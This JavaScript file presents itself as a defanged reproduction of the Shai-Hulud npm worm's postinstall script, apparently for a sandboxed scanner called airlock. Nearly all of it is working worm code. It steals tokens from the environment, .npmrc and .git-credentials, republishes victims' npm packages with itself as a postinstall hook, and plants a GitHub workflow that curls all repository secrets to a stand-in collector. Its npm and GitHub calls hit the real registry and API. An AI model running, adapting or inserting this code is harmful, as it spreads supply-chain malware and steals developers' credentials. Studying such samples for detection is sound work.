// DEFANGED reproduction of the Shai-Hulud npm worm's postinstall (September 2025).
// Only ever run inside `airlock scan`: every host below is answered by airlock's sink.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execFileSync } = require('child_process');

function request(method, url, headers, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const data = body === undefined ? undefined : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
    const req = https.request(
      { method, hostname: u.hostname, path: u.pathname + u.search, headers: Object.assign({ 'User-Agent': 'node' }, headers, data ? { 'Content-Length': data.length } : {}) },
      (res) => {
        const chunks = [];
        res.on('data', (c) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks).toString() }));
      }
    );
    req.on('error', () => resolve({ status: 0, body: '' }));
    req.setTimeout(5000, () => req.destroy());
    if (data) req.write(data);
    req.end();
  });
}

// 1. Collect tokens: environment first, then ~/.npmrc.
function collect() {
  const found = { env: {}, npmrc: '', npmToken: '', githubToken: '' };
  for (const [k, v] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|KEY|PASSWORD|AWS_|GITHUB_|NPM_/i.test(k)) found.env[k] = v;
  }
  try {
    found.npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  } catch (e) {}
  const m = /_authToken=(\S+)/.exec(found.npmrc);
  found.npmToken = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || (m ? m[1] : '');
  found.githubToken = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || '';
  try {
    found.gitCredentials = fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8');
  } catch (e) {}
  found.system = { platform: os.platform(), hostname: os.hostname(), user: os.userInfo().username };
  return found;
}

// 2. npm: validate the token, list the victim's packages, republish each with this bundle.
async function spreadNpm(token) {
  const auth = { Authorization: 'Bearer ' + token };
  const who = await request('GET', 'https://registry.npmjs.org/-/whoami', auth);
  let user = 'unknown';
  try { user = JSON.parse(who.body).username || user; } catch (e) {}
  const search = await request('GET', 'https://registry.npmjs.org/-/v1/search?text=maintainer:' + encodeURIComponent(user) + '&size=20', auth);
  let names = [];
  try { names = JSON.parse(search.body).objects.map((o) => o.package.name); } catch (e) {}
  if (names.length === 0) names = [require('./package.json').name];

  // Re-pack ourselves with a bumped patch version and publish it with the stolen token.
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'npm-'));
  const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8'));
  for (const name of names.slice(0, 3)) {
    const dir = path.join(work, name.replace(/[@/]/g, '_'));
    fs.mkdirSync(dir, { recursive: true });
    const v = pkg.version.split('.');
    v[2] = String(Number(v[2]) + 1);
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(Object.assign({}, pkg, { name, version: v.join('.') }), null, 2));
    fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
    fs.writeFileSync(path.join(dir, '.npmrc'), '//registry.npmjs.org/:_authToken=' + token + '\n');
    try {
      execFileSync('npm', ['publish', '--access', 'public'], { cwd: dir, stdio: 'ignore', timeout: 20000 });
    } catch (e) {}
    // Fallback used by the worm when the CLI is missing: a raw registry PUT.
    const tgz = fs.readFileSync(__filename).toString('base64');
    await request('PUT', 'https://registry.npmjs.org/' + encodeURIComponent(name), Object.assign({ 'Content-Type': 'application/json', 'npm-command': 'publish' }, auth), {
      _id: name, name, 'dist-tags': { latest: v.join('.') },
      versions: { [v.join('.')]: { name, version: v.join('.'), scripts: { postinstall: 'node bundle.js' } } },
      _attachments: { [name + '-' + v.join('.') + '.tgz']: { content_type: 'application/octet-stream', data: tgz, length: tgz.length } },
    });
  }
}

// 3. GitHub: dump the loot into a new public repo "Shai-Hulud", push a workflow that
//    exfiltrates repository secrets on every push.
async function spreadGithub(token, loot) {
  const gh = { Authorization: 'token ' + token, Accept: 'application/vnd.github+json' };
  const user = await request('GET', 'https://api.github.com/user', gh);
  let login = 'victim';
  try { login = JSON.parse(user.body).login || login; } catch (e) {}
  await request('POST', 'https://api.github.com/user/repos', gh, { name: 'Shai-Hulud', description: 'Shai-Hulud Repository.', private: false });
  const twice = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');
  await request('PUT', 'https://api.github.com/repos/' + login + '/Shai-Hulud/contents/data.json', gh, { message: 'Initial commit', content: twice });
  const workflow = [
    'on: push',
    'jobs:',
    '  process:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: curl -d "$CONTENTS" https://hook-collector.example/2f1d4c',
    '        env:',
    '          CONTENTS: ${{ toJSON(secrets) }}',
  ].join('\n');
  const repos = await request('GET', 'https://api.github.com/user/repos?per_page=100', gh);
  let list = [];
  try { list = JSON.parse(repos.body).map((r) => r.full_name); } catch (e) {}
  if (list.length === 0) list = [login + '/app'];
  for (const full of list.slice(0, 3)) {
    await request('POST', 'https://api.github.com/repos/' + full + '/git/refs', gh, { ref: 'refs/heads/shai-hulud', sha: '0000000000000000000000000000000000000000' });
    await request('PUT', 'https://api.github.com/repos/' + full + '/contents/.github/workflows/shai-hulud-workflow.yml', gh, {
      message: 'Add workflow', branch: 'shai-hulud', content: Buffer.from(workflow).toString('base64'),
    });
  }
}

(async () => {
  const loot = collect();
  // Real worm: always tries, with whatever it found.
  await spreadNpm(loot.npmToken || 'npm_missing');
  await spreadGithub(loot.githubToken || 'ghp_missing', loot);
  await request('POST', 'https://hook-collector.example/2f1d4c', { 'Content-Type': 'application/json' }, loot);
})().catch(() => {}).finally(() => process.exit(0));
